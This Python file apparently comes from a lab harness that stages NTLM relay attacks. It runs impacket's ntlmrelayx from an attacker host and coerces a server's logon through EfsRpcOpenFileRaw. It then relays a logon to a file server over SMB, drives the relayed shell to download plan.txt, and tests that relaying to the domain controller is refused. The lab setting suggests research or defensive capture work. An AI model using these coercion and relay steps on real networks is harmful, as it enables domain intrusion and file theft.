# SPDX-License-Identifier: Apache-2.0
"""Log-ons that are used by somebody else, alone and after a coercion."""

import os
import re
import subprocess

from lab import DOMAIN, password_of, wait_for
from net import EXAMPLES, PYTHON, expect
from on_coercion import coerce, unc, windows

# Debian has no dsinternals, which just an attack on LDAP needs; a shell's port may be that of one that just ended.
RELAYX = """
import random, runpy, sys, unittest.mock
for name in ("", ".system", ".system.Guid", ".system.DateTime", ".common", ".common.cryptography",
             ".common.cryptography.X509Certificate2", ".common.data", ".common.data.hello",
             ".common.data.hello.KeyCredential"):
    sys.modules["dsinternals" + name] = unittest.mock.MagicMock()
import impacket.examples.ntlmrelayx.utils.tcpshell
impacket.examples.ntlmrelayx.utils.tcpshell.port = random.randrange(11000, 30000)
del sys.argv[0]
runpy.run_path(sys.argv[0], run_name="__main__")
"""


def relay_of(net, target, *options):
    process = net.evil.start(PYTHON, "-c", RELAYX, EXAMPLES / "ntlmrelayx.py", "-t", f"smb://{target.address}",
                             "-smb2support", "--no-http-server", "--no-wcf-server", "--no-raw-server", *options,
                             cwd=net.evil.dir, env=os.environ | {"PYTHONUNBUFFERED": "1"},
                             stdin=subprocess.PIPE)  # it ends with its input
    wait_for(lambda: b"Servers started" in process.log.read_bytes(), "ntlmrelayx does not start")
    return process


TALK = """
import socket, sys, time
for _ in range(100):
    try:
        s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=30)
        break
    except ConnectionRefusedError:
        time.sleep(0.1)
said = b""
for line in sys.argv[2:]:
    while not said.endswith(b"# "):
        got = s.recv(65536)
        if not got:
            break
        said += got
    s.sendall(line.encode() + b"\\n")
    said += b" "
while not line == "exit" and not said.endswith(b"# "):
    said += s.recv(65536)
print(said.decode(errors="replace"))
"""


def in_relayed_session(net, relay, *commands):
    wait_for(lambda: b"Started interactive SMB client shell" in relay.log.read_bytes(), "nothing was relayed", 30)
    port = re.search(r"via TCP on 127.0.0.1:(\d+)", relay.log.read_text())[1]
    return net.evil.run(PYTHON, "-c", TALK, port, *commands, cwd=net.evil.dir)


def story_coercion_relay_files(net):
    """A server is made to log on at the attacker's, its log-on is used at another, and a file taken from there."""
    win1, target = windows(net), net.files2
    net.machine("win1$ at files2", lambda: target.know("win1$") or True)
    relay = relay_of(net, target.host, "-i")
    with net.capture("story_coercion_relay_files", f"tcp port 445 and host {net.evil.address}"):
        coerce(net.evil, win1, "lsarpc", "EfsRpcOpenFileRaw", unc(net.evil))
        expect(in_relayed_session(net, relay, "shares", "use docs", "ls", "get plan.txt", "exit"), "plan.txt")
    net.evil.stop(relay)


def relay_smb(net):
    """A user is led to the attacker, who uses his log-on elsewhere; a domain controller does not let him."""
    who = f"{DOMAIN}\\alice%{password_of('alice')}"
    relay = relay_of(net, net.files2.host, "-i")
    with net.capture("relay_smb", f"tcp port 445 and host {net.evil.address}"):
        net.ws1.run("smbclient", "//evil/share", "-U", who, "-c", "ls", check=False)
        expect(in_relayed_session(net, relay, "use docs", "ls", "exit"), "plan.txt")
    net.evil.stop(relay)
    relay = relay_of(net, net.dc.host)
    with net.capture("relay_smb_to_controller", f"tcp port 445 and host {net.evil.address}"):
        net.ws1.run("smbclient", "//evil/share", "-U", who, "-c", "ls", check=False)
    net.evil.stop(relay)
